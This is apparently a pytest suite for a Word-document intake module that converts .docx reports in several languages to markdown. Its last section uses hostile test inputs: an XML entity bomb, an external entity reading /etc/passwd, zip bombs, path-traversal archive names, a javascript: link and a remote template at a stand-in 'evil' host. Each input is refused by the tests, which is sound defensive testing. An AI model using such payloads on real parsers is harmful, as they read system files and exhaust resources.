"""Word files of several makers, in three languages -> articles; hostile ones -> one clear line."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from helpers_office import (
    EMF,
    Docx,
    cell,
    complex_field,
    doubts,
    drawing,
    item,
    levels,
    link,
    note,
    para,
    png,
    reasons,
    rendered,
    row,
    run,
    table,
    text_box,
    zipped,
)
from office_samples import arabic, english, pandoc_made, turkish

from report_builder.intake.docx import read_docx
from report_builder.intake.errors import IntakeError
from report_builder.intake.model import Draft, Hints

HINTS = Hints(languages=("en", "ar", "tr"))


def read(made: Docx | bytes, name: str = "article.docx") -> Draft:
    (draft,) = read_docx(made if isinstance(made, bytes) else made.build(), name, HINTS)
    return draft


def body_of(*blocks: str) -> str:
    return read(Docx("".join(blocks))).body


def refused(data: bytes) -> str:
    with pytest.raises(IntakeError) as caught:
        read_docx(data, "article.docx", HINTS)
    assert "\n" not in caught.value.message
    return caught.value.message


@pytest.fixture(scope="module")
def report() -> Draft:
    return read(english(), "strikes_on-camps.docx")


# A report of an institute, in English


def test_the_front_matter_comes_from_styles_a_byline_and_a_date_line(report: Draft) -> None:
    assert report.title == "Strikes on the camps of Idlib"
    assert report.subtitle == "A count of the year 2022"
    assert report.authors == ("Rima Haddad", "Omar Saleh"), (
        "the byline, and not the Administrator of the file"
    )
    assert report.date == "2022-12-18", "the date line, and not the day on which the file was made"
    assert (report.lang, report.tags) == ("en", ("idlib", "camps"))
    assert set(report.guessed) == {"authors", "date"}
    for taken in ("Rima Haddad", "18 December", "A count of the year"):
        assert taken not in report.body


def test_words_that_word_cut_into_runs_are_whole_and_each_mark_stands_at_a_word(report: Draft) -> None:
    assert "**The civil defence** counted 161 dead[^1] in the *camps*, as [its register]" in report.body
    assert "(https://example.org/register?a=1&b=%282%29) shows: m^2^, H~2~O." in report.body
    assert "[Milli Savunma Bakanlığı]{lang=tr}" in report.body


def test_notes_of_the_foot_of_the_end_and_of_tables_are_notes(report: Draft) -> None:
    assert "[^1]: Civil defence, *Register*.\n\n    A second paragraph of it." in report.body
    assert "[^2]: 1\\. Letter of May 2022." in report.body, "a note may begin with a number"
    assert "| Ariha[^3] | 12 |" in report.body
    assert "[^3]: Town and camps." in report.body


def test_tracked_changes_are_accepted_and_comments_quoted_in_the_report_of_losses(report: Draft) -> None:
    assert "Two thirds were women and children. No rocket was found." in report.body
    assert "This line was broken by a paragraph mark." in report.body
    assert doubts(report, "comment") == ["Is this certain?"]
    (comment,) = [doubt for doubt in report.doubts if doubt.what == "comment"]
    assert comment.place.endswith("on “No rocket was found.”")
    assert "Editor" in comment.reason
    assert "mostly" in doubts(report, "tracked change")
    assert "1 insertion" in reasons(report, "tracked change")


def test_contents_page_numbers_and_hidden_words_are_left_out_and_told(report: Draft) -> None:
    assert "Sources 4" not in report.body
    assert "not for print" not in report.body
    assert doubts(report, "contents") == ["The count 1 Sources 4"]
    assert doubts(report, "page number") == ["3"]
    assert doubts(report, "hidden text") == ["not for print"]
    assert doubts(report, "header") == ["Institute of the North"]


def test_headings_have_the_levels_of_their_styles_or_of_their_outline(report: Draft) -> None:
    headings = [line for line in report.body.splitlines() if line.startswith("#")]
    assert headings == ["## The count {#part-1}", "### By district", "### An older method"]
    assert "See [the count](#part-1)" in report.body


def test_lists_nest_begin_at_their_number_and_stay_apart(report: Draft) -> None:
    assert "- Ariha\n    - Ihsim\n    - Maghara\n- Harim" in report.body
    assert "3. a numbered third\n4. a fourth\n\n<!-- -->\n\n1. a list of its own" in report.body
    assert "lowerLetter" in reasons(report, "list")


def test_tables_have_their_head_alignment_and_caption(report: Draft) -> None:
    assert "| District | Killed |\n|---|---:|" in report.body
    assert "| Harim \\| west | 3 |" in report.body
    assert ': Attacks by district. {source="Source: Civil defence"}' in report.body
    assert '<tr><th rowspan="2">Year</th><th colspan="2">Patrols</th></tr>' in report.body
    assert "joined cells" in reasons(report, "table")


def test_pictures_have_caption_credit_and_alternative_text(report: Draft) -> None:
    (picture,) = report.pictures
    assert picture.data == png()
    assert (picture.alt, picture.credit) == ("Map of the north-west", "Photo: Civil defence")
    line = (
        '![Where the strikes were.](rb-picture:0){alt="Map of the north-west" credit="Photo: Civil defence"}'
    )
    assert line in report.body
    assert "Figure 1:" in doubts(report, "label"), "the report numbers its own figures"


def test_quotations_boxes_equations_and_line_breaks_are_kept(report: Draft) -> None:
    assert "> We write down what we find.\n>\n> And we keep it." in report.body
    assert '::: {.aside title=""}\n\nAriha was shelled on 16 days.\n\nHarim on two.\n\n:::' in report.body
    assert report.body.count("Ariha was shelled") == 1, (
        "not once more from what Word keeps for older programs"
    )
    assert "Around the box the text goes on." in report.body
    assert "The share is killed/all=x\\^2." in report.body
    assert doubts(report, "equation") == ["killed/all=x^2"]
    assert "Line one<br>line two of an address." in report.body
    assert "softhyphen" in report.body


def test_no_word_of_the_body_is_lost_and_the_project_reads_it_without_a_problem(
    report: Draft, tmp_path: Path
) -> None:
    assert report.words_in == report.words_out > 140
    markup = rendered(report, tmp_path)
    assert markup.problems == ()
    assert len(markup.notes) == 3
    assert markup.html.count("<aside") == 1
    assert markup.html.count("<table") == 2


# Arabic


def test_an_arabic_article_keeps_its_digits_and_loses_stray_marks(tmp_path: Path) -> None:
    draft = read(arabic())
    assert (draft.title, draft.lang) == ("القصف على مخيمات إدلب", "ar")
    assert (draft.authors, draft.date) == (("ريما حداد",), "2022-12-18")
    assert "أحصى الدفاع المدني **١٦١** قتيلاً[^1] في **المخيمات** وفق OCHA." in draft.body
    assert "> ثلثاهم من النساء والأطفال." in draft.body
    assert "1. أولاً في أريحا\n2. ثانياً في حارم" in draft.body
    assert "arabicAbjad" in reasons(draft, "list")
    assert "![مواقع القصف.](rb-picture:0)" in draft.body
    assert draft.pictures[0].credit == "المصدر: الدفاع المدني"
    assert "| المنطقة | القتلى |\n|---|---|\n| أريحا | ١٢ |\n| حارم | ٣ |\n\n: الهجمات" in draft.body
    assert "[^1]: ١- سجل الدفاع المدني." in draft.body
    assert draft.words_in == draft.words_out
    assert rendered(draft, tmp_path).problems == ()


# Files of other makers


def test_a_turkish_file_of_python_docx_has_its_title_and_headings_guessed(tmp_path: Path) -> None:
    draft = read(turkish())
    assert (draft.title, draft.lang) == ("İdlib kamplarına saldırılar", "tr")
    assert draft.authors == ("Ayşe Yılmaz",)
    assert set(draft.guessed) == {"title", "authors"}
    assert draft.date == "", "the day of the template of python-docx is nobody's"
    assert "## Sayım ve yöntem" in draft.body
    assert doubts(draft, "heading") == ["Sayım ve yöntem"]
    assert "**161 kişi** öldü ve ölenlerin çoğu *kadın ve çocuk*tu, ancak" in draft.body
    assert "- Ariha ilçesi\n- Harim ilçesi" in draft.body
    assert "1. önce kayıt\n2. sonra doğrulama" in draft.body
    assert "| İlçe | Ölü |" in draft.body
    assert "> Alıntı bir cümle." in draft.body
    assert draft.pictures[0].credit == "Kaynak: Sivil savunma"
    assert draft.words_in == draft.words_out
    assert [p.severity for p in rendered(draft, tmp_path).problems] == ["warning"], "no alternative text"


def test_a_file_that_pandoc_wrote_comes_back_as_it_was(tmp_path: Path) -> None:
    draft = read(pandoc_made("docx"))
    assert (draft.title, draft.subtitle, draft.date) == ("Strikes on the camps", "A count", "2022-12-18")
    assert draft.authors == ("Rima Haddad", "Omar Saleh")
    for kept in (
        "The *civil defence* **counted**[^1] 161 ~~dead~~; H~2~O and m^2^.",
        "- one\n\n    more of one\n\n- two\n    1. deep\n    2. deeper",
        "5. five\n6. six",
        "> Quoted.\n>\n> Twice.",
        '![The *caption* here.](rb-picture:0){alt="The caption here."}',
        "| 3 | 4[^2] |\n\n: A table caption.",
        "See [district](#part-1).",
        "Line one<br>line two",
        "\n---\n",
        "[^1]: A note.\n\n    Second paragraph.",
    ):
        assert kept in draft.body, draft.body
    assert draft.words_in == draft.words_out
    assert rendered(draft, tmp_path).problems == ()


# One thing at a time


def test_underlined_words_are_emphasis_and_toggled_styles_are_settled() -> None:
    strong = '<w:rStyle w:val="Gl"/>'
    body = body_of(
        para(run("so ") + run("underlined", '<w:u w:val="single"/>') + run(" words")),
        para(run("from a style", strong) + run(" and not", f'{strong}<w:b w:val="0"/>') + run(" so.")),
        para(
            run("a ")
            + run("bold", "<w:b/>")
            + run(" ", "")
            + run("both", "<w:b/><w:i/>")
            + run(" end", "<w:b/>")
        ),
    )
    assert "so *underlined* words" in body
    assert "**from a style** and not so." in body
    assert "a **bold *both* end**" in body or "a **bold** ***both* end**" in body, body


def test_paragraphs_that_look_like_markdown_stay_paragraphs(tmp_path: Path) -> None:
    draft = read(
        Docx(
            para("# 1 of 3")
            + para("1986. A year.")
            + para("- dash")
            + para("a *star* and_under [x] @who &lt;b&gt;")
        )
    )
    markup = rendered(draft, tmp_path)
    assert [p.message for p in markup.problems] == []
    assert list(markup.flow) == [
        "# 1 of 3",
        "1986. A year.",
        "- dash",
        "a *star* and_under [x] @who <b>",
    ]


def test_moved_text_stands_where_it_was_moved_to_and_deleted_rows_go() -> None:
    draft = read(
        Docx(
            para('<w:moveFrom w:id="1" w:author="x">' + run("Moved once.") + "</w:moveFrom>" + run("First."))
            + para('<w:moveTo w:id="2" w:author="x">' + run("Moved once.") + "</w:moveTo>")
            + table(
                row("a", "b", head=True),
                row("c", "d"),
                row("x", "y", properties='<w:del w:id="3" w:author="z"/>'),
            )
        )
    )
    assert draft.body.startswith("First.\n\nMoved once.\n\n| a | b |\n|---|---|\n| c | d |\n")
    assert "| x |" not in draft.body
    assert draft.words_in == draft.words_out


def test_fields_become_links_and_text() -> None:
    body = body_of(
        para(
            run("See ")
            + complex_field('HYPERLINK "https://example.org/a"', run("the ") + run("site", "<w:b/>"))
            + run(".")
        ),
        para(
            run("Page ")
            + '<w:fldSimple w:instr=" PAGE ">'
            + run("7")
            + "</w:fldSimple>"
            + run(" of the text.")
        ),
        para(run("Hello ") + complex_field("MERGEFIELD Name", run("Rima")) + run("!")),
    )
    assert "See [the **site**](https://example.org/a)." in body
    assert "Page of the text." in body
    assert "Hello Rima!" in body


def test_addresses_that_are_no_pages_of_the_web_are_not_links() -> None:
    draft = read(
        Docx(
            para(link("the plan", "r1") + run(" and ") + link("a script", "r2")),
            links={"r1": "file:///c:/plan.docx", "r2": "javascript:alert(1)"},
        )
    )
    assert draft.body == "the plan and a script\n"


def test_pictures_that_cannot_be_set_or_are_elsewhere_are_told_and_never_fetched() -> None:
    made = Docx(
        para(drawing("rEmf", "A drawing"))
        + para(drawing("rFar", "Far away", linked=True))
        + para(drawing("rCut", "Cut", crop="25000") + run(""))
        + para(run("Text."))
        + para(drawing("rGone", "Gone")),
        media={"rEmf": EMF, "rCut": png()},
        links={"rFar": "https://example.invalid/p.png"},
    )
    draft = read(made)
    assert [picture.alt for picture in draft.pictures] == ["Cut"]
    said = reasons(draft, "picture")
    assert "EMF" in said
    assert "not fetched" in said
    assert "cropped" in said


def test_a_floating_picture_is_a_figure_after_its_paragraph_and_one_among_words_stays() -> None:
    made = Docx(
        para(drawing("rA", "Above", floating=True) + run("The text beside."))
        + para(run("An icon ") + drawing("rB", "Icon") + run(" in the line.")),
        media={"rA": png(shade=10), "rB": png(shade=20)},
    )
    body = read(made).body
    assert 'The text beside.\n\n![](rb-picture:0){alt="Above"}' in body
    assert 'An icon ![Icon](rb-picture:1){alt="Icon"} in the line.' in body


def test_a_table_of_one_cell_is_a_box_and_a_table_in_a_table_follows_it(tmp_path: Path) -> None:
    inner = table(row("in a", "in b", head=True), row("1", "2"))
    made = Docx(
        table(row(para("Key words.")), columns=1)
        + table(row("a", "b", head=True), row(cell(para("c") + inner + para("")), "d"))
    )
    draft = read(made)
    assert '::: {.aside title=""}\n\nKey words.\n\n:::' in draft.body
    assert draft.body.index("| c | d |") < draft.body.index("| in a | in b |")
    assert draft.words_in == draft.words_out
    assert rendered(draft, tmp_path).problems == ()


def test_merged_cells_with_notes_are_set_in_their_first_place(tmp_path: Path) -> None:
    made = Docx(
        table(
            row("a", "b", head=True),
            row(cell(para(run("wide") + note(2)), '<w:gridSpan w:val="2"/>')),
            row("c", "d"),
        ),
        footnotes={2: para("Its note.")},
    )
    draft = read(made)
    assert "| wide[^1] |  |" in draft.body
    assert rendered(draft, tmp_path).problems == ()


def test_symbols_tabs_and_spaces() -> None:
    body = body_of(
        para(
            '<w:r><w:sym w:font="Wingdings" w:char="F0E0"/></w:r>'
            + run(" so, 5\u00a0km")
            + "<w:r><w:tab/><w:t>tab</w:t></w:r>"
        ),
        para(
            '<w:r><w:sym w:font="Symbol" w:char="F061"/></w:r>'
            + run(" alpha ")
            + "<w:r><w:noBreakHyphen/></w:r>"
        ),
    )
    assert "→ so, 5\u00a0km tab" in body
    assert "α alpha" in body


def test_marks_of_the_reader_in_a_text_do_nothing() -> None:
    body = body_of(para("\ufdd6picture 0\ufdd7 and \U0010f8b0"), para("\U0010f8b0"))
    assert body == "picture 0 and\n"


def test_a_template_and_a_file_with_macros_are_read_and_macros_are_not() -> None:
    made = Docx(
        para("Only text."), main="template.main", more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}
    )
    assert read(made, "article.dotx").body == "Only text.\n"


def test_strict_files_are_read_too() -> None:
    usual, strict = "http://schemas.openxmlformats.org/", "http://purl.oclc.org/ooxml/"
    made: dict[str, str | bytes] = {}
    for name, part in Docx(para("Strict.", "Balk1") + para("Text.")).parts().items():
        for kind, folder in (("wordprocessingml", "main"), ("officeDocument", "relationships")):
            part = str(part).replace(f"{usual}{kind}/2006/{folder}", f"{strict}{kind}/{folder}")
        made[name] = part
    assert read(zipped(made)).body.endswith("Text.\n")


def test_a_list_goes_on_after_a_paragraph_between(tmp_path: Path) -> None:
    made = Docx(
        item("one", 1) + para("Between.") + item("two", 1), numberings={1: levels(("decimal", "%1."))}
    )
    draft = read(made)
    assert draft.body == "1. one\n\nBetween.\n\n2. two\n"
    assert rendered(draft, tmp_path).problems == ()


def test_a_title_with_a_note_keeps_the_note() -> None:
    made = Docx(
        para(run("The title") + note(2), "KonuBal") + para("Text."), footnotes={2: para("On the title.")}
    )
    draft = read(made)
    assert draft.title == "The title"
    assert draft.body == "Text.[^1]\n\n[^1]: On the title.\n"


def test_the_language_that_the_user_names_goes_before_what_the_file_says() -> None:
    spoken = run("The defence ministry of the country", '<w:lang w:val="en-GB"/>')
    made = Docx(
        para(run("Bakanlık, yani ") + spoken + run(", bir şey demedi ve kayıt tutmadı.")), language="tr-TR"
    )
    (draft,) = read_docx(made.build(), "x.docx", Hints(lang="tr", languages=("en", "tr")))
    assert draft.lang == "tr"
    assert "[The defence ministry of the country]{lang=en}" in draft.body
    assert "lang" not in draft.guessed


def test_a_picture_that_stands_in_many_places_is_unpacked_once() -> None:
    made = Docx(
        "".join(para(drawing("rA", f"Place {at}")) for at in range(300)), media={"rA": png(2000, 2000)}
    )
    draft = read(made)
    assert len(draft.pictures) == 300
    assert len({id(picture.data) for picture in draft.pictures}) == 1


@pytest.mark.parametrize(
    ("blocks", "properties", "title", "first"),
    [
        (("The camps", "Balk1", "Part", "Balk2"), "", "The camps", "Text."),
        (("The camps", "Balk1", "Part", "Balk1"), "", "The camps", "Text."),
        (("Introduction", "Balk1", "Part", "Balk1"), "", "camps 2022", "## Introduction"),
        (
            ("Introduction", "Balk1", "Part", "Balk1"),
            "A name in the file",
            "A name in the file",
            "## Introduction",
        ),
        (("The camps", "Balk1", "Part", "Balk1"), "Microsoft Word - Document1", "The camps", "Text."),
        (("The camps", "", "Part", "Balk1"), "The  Camps", "The camps", "Text."),
    ],
)
def test_a_title_without_a_style_is_found_and_guessed(
    blocks: tuple[str, str, str, str], properties: str, title: str, first: str
) -> None:
    body = para(blocks[0], blocks[1]) + para("Text.") + para(blocks[2], blocks[3]) + para("More.")
    draft = read(Docx(body, core={"title": properties} if properties else {}), "folder/camps_2022.docx")
    assert draft.title == title
    assert draft.body.startswith(first)
    assert draft.words_in == draft.words_out


def test_what_word_puts_around_words_loses_none_of_them() -> None:
    frame = '<w:framePr w:dropCap="drop" w:lines="3"/>'
    control = "<w:sdt><w:sdtPr/><w:sdtContent>{}</w:sdtContent></w:sdt>"
    ruby = (
        "<w:r><w:ruby><w:rt><w:r><w:t>reading</w:t></w:r></w:rt>"
        "<w:rubyBase><w:r><w:t>base</w:t></w:r></w:rubyBase></w:ruby></w:r>"
    )
    custom = '<w:r><w:footnoteReference w:customMarkFollows="1" w:id="2"/><w:t>*</w:t></w:r>'
    draft = read(
        Docx(
            para(run("T"), "", frame)
            + para(
                run("he civil ")
                + f'<w:smartTag w:element="x">{run("defence")}</w:smartTag>'
                + run(" counted.")
            )
            + control.format(para(run("In ") + control.format(run("a control")) + run(".") + custom))
            + para(f'<w:bdo w:val="rtl">{run("Turned")}</w:bdo>' + run(" words, ") + ruby + run(".")),
            footnotes={2: para("* A note with a sign.")},
        )
    )
    assert draft.body.startswith(
        "The civil defence counted.\n\nIn a control.[^1]\n\nTurned words, base (reading).\n"
    )
    assert draft.words_in == draft.words_out


def test_a_numbering_that_begins_again_is_a_list_of_its_own() -> None:
    base = levels(("decimal", "%1."))
    over = '<w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride>'
    again = f'<w:num w:numId="5"><w:abstractNumId w:val="1"/>{over}</w:num>'
    made = Docx(item("one", 1) + item("two", 1) + item("one again", 5), numberings={1: base})
    parts = made.parts()
    parts["word/numbering.xml"] = str(parts["word/numbering.xml"]).replace(
        "</w:numbering>", again + "</w:numbering>"
    )
    assert read(zipped(parts)).body == "1. one\n2. two\n\n<!-- -->\n\n1. one again\n"


# Hostile and broken files


def test_what_is_no_word_file_is_refused_in_one_clear_line() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    assert "old kind (.doc)" in refused(ole + "WordDocument".encode("utf-16-le"))
    assert "password" in refused(ole + "EncryptedPackage".encode("utf-16-le"))
    assert "damaged" in refused(b"PK\x03\x04 and no more")
    assert "damaged" in refused(b"")
    assert "RTF" in refused(b"{\\rtf1 text}")
    assert "no Word document" in refused(zipped({"readme.txt": "hello"}))
    good = Docx(para("Text.")).build()
    assert "damaged" in refused(good[: len(good) // 2])
    sheet = Docx(para("x")).parts()
    sheet["[Content_Types].xml"] = "<Types><Override ContentType='a.spreadsheetml.sheet.main+xml'/></Types>"
    assert "spreadsheet" in refused(zipped(sheet))


def test_entities_are_refused_in_every_encoding() -> None:
    bomb = '<!DOCTYPE w:document [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document>&b;</w:document>'
    for encoding in ("utf-8", "utf-16"):
        parts = Docx(para("x")).parts() | {"word/document.xml": bomb.encode(encoding)}
        assert "entities" in refused(zipped(parts))
    outside = '<!DOCTYPE x SYSTEM "file:///etc/passwd"><w:styles/>'
    assert "entities" in refused(zipped(Docx(para("x")).parts() | {"word/styles.xml": outside}))


def test_an_archive_bomb_is_stopped_before_it_is_unpacked() -> None:
    parts = Docx(para("x")).parts()
    assert "times its size" in refused(
        zipped(parts | {"word/document.xml": b"<w:document>" + b" " * 30_000_000})
    )
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for number in range(6_000):
            archive.writestr(f"word/{number}.xml", "")
    assert "5,000 parts" in refused(made.getvalue())


def test_two_parts_of_one_name_and_names_that_lead_out_are_not_trusted() -> None:
    made = io.BytesIO(Docx(para("Text.")).build())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("../../evil.txt", "x")
        archive.writestr("C:\\evil.txt", "x")
    assert read(made.getvalue()).body == "Text.\n"
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("Word/Document.xml", "<other/>")
    assert "two parts" in refused(made.getvalue())
    parts = Docx(para(drawing("rOut", "Out")) + para("Text.")).parts()
    relations = str(parts["word/_rels/document.xml.rels"]).replace(
        "</Relationships>",
        '<Relationship Id="rOut" Type="x/image" Target="../../../../etc/passwd"/></Relationships>',
    )
    draft = read(zipped(parts | {"word/_rels/document.xml.rels": relations}))
    assert draft.pictures == ()
    assert "lacks its part" in reasons(draft, "picture")


def test_deep_nesting_and_endless_tables_are_bounded() -> None:
    deep = para("x")
    for _ in range(100):
        deep = table(row(cell(deep + para(""))), columns=1)
    assert "nested too deeply" in refused(Docx(deep).build())
    many = "<w:tr>" + "<w:tc/>" * 1000 + "</w:tr>"
    assert "cells" in refused(Docx(table(many * 60)).build())
    wide = table(row("a", "b", head=True), row(cell("c", '<w:gridSpan w:val="100000000"/>')))
    assert "c" in read(Docx(wide)).body
    boxes = para("in the innermost")
    for _ in range(6):
        boxes = para(text_box(boxes))
    assert read(Docx(boxes)).body.count("in the innermost") == 1


def test_a_template_elsewhere_is_named_and_not_fetched() -> None:
    parts = Docx(para("Text.")).parts()
    relations = str(parts["word/_rels/document.xml.rels"]).replace(
        "</Relationships>",
        '<Relationship Id="t" Type="x/attachedTemplate" Target="http://10.0.0.1/evil.dotm" '
        'TargetMode="External"/></Relationships>',
    )
    draft = read(zipped(parts | {"word/_rels/document.xml.rels": relations}))
    assert draft.body == "Text.\n"
    assert doubts(draft, "template") == ["http://10.0.0.1/evil.dotm"]
